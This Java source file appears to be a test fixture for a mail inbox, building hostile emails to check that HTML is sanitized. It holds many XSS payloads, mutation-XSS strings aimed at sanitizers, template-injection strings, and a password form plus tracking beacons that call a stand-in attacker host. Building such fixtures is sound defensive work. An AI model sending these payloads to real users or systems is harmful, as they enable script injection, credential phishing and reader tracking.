package no.bits.tls.inbox;

import java.nio.charset.StandardCharsets;
import java.util.Base64;

/**
 * What a stranger may put into a mail so that it does something when staff look at it.
 */
public enum HostileHtml {

    /** Runs at once. */
    SCRIPT("<script>alert(1);new Image().src='EVIL/script'</script><script src='EVIL/s.js'></script>"),

    /** Runs when something else happens. */
    HANDLER("<img src=x onerror=\"alert(1)\"><body onload=alert(1)><div onmouseover=alert(1) style='width:900px;height:900px'>x"
            + "<details open ontoggle=alert(1)><video src=EVIL/v onerror=alert(1) autoplay></video>"),

    /** Loads from a style, and covers the page around. */
    STYLE("<div style=\"background:url(EVIL/style);position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999\">x</div>"
            + "<style>@import 'EVIL/import.css'; @font-face{font-family:f;src:url(EVIL/font)} body{background:url(EVIL/bg);font-family:f}</style>"
            + "<table background='EVIL/table'><tr><td background='EVIL/cell'>x</td></tr></table>"),

    /** A picture that is a program. */
    SVG("<svg onload=alert(1)><script>alert(1)</script><image href='EVIL/svg'/><use href='EVIL/use#a'/>"
            + "<foreignObject><iframe src='EVIL/foreign'></iframe></foreignObject><animate onbegin=alert(1)></svg>"),

    /** Documents inside an address. */
    DATA("<a href=\"data:text/html,<script>alert(1)</script>\">klikk</a><iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>"
            + "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"
            + "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),

    /** Goes elsewhere by itself. */
    REFRESH("<meta http-equiv=refresh content='0;url=EVIL/refresh'><base href='EVIL/'><a href='page' ping='EVIL/ping'>klikk</a>"
            + "<meta http-equiv='Set-Cookie' content='a=b'><img src='relative.png'>"),

    /** Asks for a password, and sends it. */
    FORM("<form action='EVIL/form' id=f><input name=p type=password autofocus onfocus=alert(1)><button>Logg inn</button></form>"
            + "<input form=f formaction='EVIL/fa' type=image src='EVIL/input'><isindex action='EVIL/isindex'><keygen autofocus onfocus=alert(1)>"),

    /** Brings other pages and programs. */
    FRAME("<iframe src='EVIL/frame' srcdoc='<script>alert(1)</script>'></iframe><object data='EVIL/object'></object>"
            + "<embed src='EVIL/embed'><applet code='EVIL/applet'></applet><portal src='EVIL/portal'></portal><frameset><frame src='EVIL/fs'></frameset>"),

    /** Loads before anybody clicks. */
    PREFETCH(
            "<link rel=prefetch href='EVIL/prefetch'><link rel=dns-prefetch href='//dns.evil.example'><link rel=stylesheet href='EVIL/css'>"
                    + "<link rel=preload as=image href='EVIL/preload'><img srcset='EVIL/srcset 1x' src='http://evil.example/a'><picture><source srcset='EVIL/source'></picture>"
                    + "<audio src='EVIL/audio' autoplay></audio><video poster='EVIL/poster'></video><input type=image src='EVIL/i'>"),

    /** Means something else to a browser than to a sanitizer. */
    MUTATION("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"
            + "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
            + "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
            + "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\"><xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">"
            + "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"><template><script>alert(1)</script></template>"
            + "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![CDATA[><script>alert(1)</script>]]>"
            + "<plaintext><img src=x onerror=alert(1)>");

    private static final String WORDS = "<img src=x onerror=alert(1)>{{constructor.constructor('alert(1)')()}}";

    private final String html;

    HostileHtml(String html) {
        this.html = html;
    }

    /**
     * The HTML.
     * @param evil where its requests go, for example {@code http://127.0.0.1:4711}
     * @return a stranger's page
     */
    String html(String evil) {
        return "<html><body><p>Hei, dette er %s.</p>%s<p>Slutt</p></body></html>".formatted(name(), this.html)
            .replace("EVIL", evil);
    }

    /**
     * A whole mail that brings it, hostile in its subject, names and text too.
     * @param evil where its requests go
     * @return its bytes
     */
    public byte[] mail(String evil) {
        return """
                From: "=?utf-8?B?%s?=" <stranger@elsewhere.example>\r
                To: tls@bits.no\r
                Subject: =?utf-8?B?%s?=\r
                Message-ID: <%s@elsewhere.example>\r
                MIME-Version: 1.0\r
                Content-Type: multipart/mixed; boundary=m\r
                \r
                --m\r
                Content-Type: multipart/alternative; boundary=a\r
                \r
                --a\r
                Content-Type: text/plain; charset=utf-8\r
                \r
                %s\r
                --a\r
                Content-Type: text/html; charset=utf-8\r
                Content-Transfer-Encoding: base64\r
                \r
                %s\r
                --a--\r
                --m\r
                Content-Type: text/html; name="=?utf-8?B?%s?="\r
                Content-Disposition: attachment\r
                \r
                <script>alert(1)</script>\r
                --m--\r
                """
            .formatted(base64(WORDS), base64(name() + " " + WORDS), java.util.UUID.randomUUID(), WORDS,
                    Base64.getMimeEncoder().encodeToString(html(evil).getBytes(StandardCharsets.UTF_8)),
                    base64(WORDS + ".html"))
            .getBytes(StandardCharsets.UTF_8);
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

}
